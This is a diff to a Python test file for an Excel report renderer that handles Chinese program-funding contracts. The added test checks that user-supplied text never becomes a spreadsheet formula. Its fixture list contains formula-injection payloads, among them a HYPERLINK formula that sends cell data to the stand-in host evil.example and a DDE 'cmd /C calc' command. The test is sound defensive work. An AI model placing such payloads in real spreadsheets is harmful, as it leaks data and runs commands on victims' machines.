@@ -4,6 +4,7 @@ a yuan figure, page numbers)."""
 
 from __future__ import annotations
 
+import zipfile
 from datetime import date
 from decimal import Decimal
 from io import BytesIO
@@ -206,3 +207,55 @@ def test_xinping_without_share_rules_or_contracts_renders_too() -> None:
     wb = openpyxl.load_workbook(BytesIO(render_xlsx(report)))
     first_cells = [row[0] for row in wb["合同"].iter_rows(values_only=True)]
     assert first_cells == ["合同编号", None, "采购包组", "包组编号", None, "付款计划", "合同编号"]
+
+
+HOSTILE_TEXT = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "＝1+1",  # full-width: Excel on a Chinese system may take it for "="
+)
+
+
+def test_user_text_is_never_a_formula_and_numbers_stay_numbers() -> None:
+    """A provider's name, a contract number, a milestone's responsible unit, a program's name
+    or the person's name who generated the report come from users: none of them may reach the
+    workbook as a formula (``<f>`` in the sheet XML), whatever it starts with."""
+    doc = yaml.safe_load((PROGRAMS / "xinping-2021.yaml").read_text(encoding="utf-8"))
+    doc["name"] = HOSTILE_TEXT[0]
+    check = check_program(doc)
+    assert check.program is not None, check.errors
+    item = next(iter(check.program.items())).code
+    contract = ContractFacts(
+        contract_no=HOSTILE_TEXT[1], item_code=item, provider_name=HOSTILE_TEXT[0],
+        provider_credit_code="91440232MA4W000011", amount_fen=100_000, signed_on=date(2021, 6, 1),
+        ends_on=date(2021, 12, 1), procurement=HOSTILE_TEXT[3], status="active", paid_fen=0,
+        deliverables=(), tranches=(),
+        milestones=(MilestoneFacts(HOSTILE_TEXT[2], HOSTILE_TEXT[4], date(2021, 9, 30), None),),
+    )  # fmt: skip
+    report = build_report(
+        check.program, plan_ratios=check.ratios, spend={item: ItemSpend(awards_approved_fen=1)},
+        contracts=[contract], milestones=[], target_actuals={}, as_of=date(2021, 11, 8),
+        generated_by=HOSTILE_TEXT[5], document=HOSTILE_TEXT[2],
+    )  # fmt: skip
+    xlsx = render_xlsx(report)
+    with zipfile.ZipFile(BytesIO(xlsx)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert len(sheets) == len(SHEETS)
+        for name in sheets:
+            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
+    wb = openpyxl.load_workbook(BytesIO(xlsx))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    texts = {c.value: c for c in cells if isinstance(c.value, str)}
+    assert texts[HOSTILE_TEXT[0]].data_type == "s"
+    assert texts[HOSTILE_TEXT[0]].quotePrefix  # typing into the cell keeps it text too
+    for text in HOSTILE_TEXT[1:4]:
+        assert texts[text].data_type == "s" and texts[text].quotePrefix, text
+    assert "生成人" in texts and texts["生成人"].quotePrefix is False
+    summary = {r[0]: r[1] for r in wb["总表"].iter_rows(max_col=2, values_only=True) if r[0]}
+    assert summary["生成人"] == HOSTILE_TEXT[5] and summary["依据文件"] == HOSTILE_TEXT[2]
+    assert summary["项目名称"] == HOSTILE_TEXT[0]
+    assert summary["中央财政资金（元）"] == 5_000_000  # numbers stay number cells
+    assert any(c.data_type == "n" and c.number_format == "#,##0.00" for c in cells)
